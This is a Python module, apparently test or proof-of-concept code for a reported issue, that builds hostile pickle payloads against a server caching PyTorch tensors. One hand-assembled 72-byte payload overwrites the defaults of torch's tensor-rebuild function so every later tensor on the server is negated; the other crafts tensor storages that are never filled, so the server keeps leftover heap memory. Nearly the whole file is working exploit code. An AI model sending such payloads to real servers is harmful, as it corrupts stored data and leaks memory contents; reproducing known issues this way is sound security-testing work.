"""COMMIT_STORE payloads a keyholder of a node cache could send (issue 42, items 2 and 3), built
the way an attacker would: by hand, opcode by opcode, or by pickling stand-ins that reduce to
torch's own rebuild functions.

- :func:`poisoning_payload`: 72 bytes that ``BUILD`` new ``__defaults__`` onto the unpickler's
  ``torch._utils._rebuild_tensor_v2``: under a guard that hands out the real function, every later
  pickled tensor on that server is rebuilt with ``metadata={"neg": True}`` (its values negated).
- :func:`unfilled_storage_payload`: a well-formed list of tensors of the requested shapes whose
  storages (torch's legacy ``torch.save`` records) list no data: torch's loader allocates them and
  never fills them, so the server stores whatever its heap held there.
"""

from __future__ import annotations

import io
import pickle
import sys
from collections import OrderedDict
from collections.abc import Sequence
from typing import Any

import torch


def poisoning_payload() -> bytes:
    """``_rebuild_tensor_v2.__defaults__ = ({'neg': True},)`` through BUILD, then an empty list."""
    key = b"__defaults__"
    data = (
        b"\x80\x02"  # PROTO 2
        + b"ctorch._utils\n_rebuild_tensor_v2\n"  # GLOBAL: the function the guard resolves
        + b"N"  # NONE: no __dict__ state
        + b"}X"
        + len(key).to_bytes(4, "little")
        + key  # {"__defaults__":
        + b"}X\x03\x00\x00\x00neg\x88s"  # ({"neg": True}
        + b"\x85s"  # ,)}
        + b"\x86b"  # TUPLE2, BUILD: setattr(function, "__defaults__", ...)
        + b"0]."  # POP the function, an empty list of chunks, STOP
    )
    return data


class _Storage:
    def __init__(self, record: bytes) -> None:
        self.record = record

    def __reduce__(self) -> tuple[Any, tuple[bytes]]:
        return torch.storage._load_from_bytes, (self.record,)


class _Tensor:
    def __init__(self, storage: _Storage, shape: Sequence[int]) -> None:
        self.storage, self.shape = storage, tuple(shape)

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        args: tuple[Any, ...] = (self.storage, 0, self.shape, _contiguous(self.shape), False, OrderedDict())
        return torch._utils._rebuild_tensor_v2, args


def _contiguous(shape: Sequence[int]) -> tuple[int, ...]:
    strides, step = [], 1
    for size in reversed(shape):
        strides.append(step)
        step *= size
    return tuple(reversed(strides))


class _RecordPickler(pickle.Pickler):
    def __init__(self, file: io.BytesIO, pid: tuple[Any, ...]) -> None:
        super().__init__(file, protocol=2)
        self._pid = pid

    def persistent_id(self, obj: Any) -> Any:
        return self._pid if obj is _STORAGE else None


_STORAGE = object()


def unfilled_storage_record(numel: int, dtype: torch.dtype) -> bytes:
    """A legacy ``torch.save`` record of one storage of ``numel`` elements that carries none of them."""
    storage_type = {torch.float16: "HalfStorage", torch.bfloat16: "BFloat16Storage", torch.float32: "FloatStorage"}
    out = io.BytesIO()
    for value in (torch.serialization.MAGIC_NUMBER, torch.serialization.PROTOCOL_VERSION,
                  {"protocol_version": 1001, "little_endian": sys.byteorder == "little",
                   "type_sizes": {"short": 2, "int": 4, "long": 4}}):  # fmt: skip
        pickle.dump(value, out, protocol=2)
    _RecordPickler(out, ("storage", getattr(torch, storage_type[dtype]), "0", "cpu", numel, None)).dump(_STORAGE)
    pickle.dump([], out, protocol=2)  # the data section lists no storage: nothing is ever read into it
    return out.getvalue()


def unfilled_storage_payload(shapes: Sequence[Sequence[int]], dtype: torch.dtype) -> bytes:
    """``pickle.dumps`` of a list of tensors of ``shapes`` over storages the payload never fills."""
    tensors = []
    for shape in shapes:
        numel = 1
        for size in shape:
            numel *= size
        tensors.append(_Tensor(_Storage(unfilled_storage_record(numel, dtype)), shape))
    return pickle.dumps(tensors)
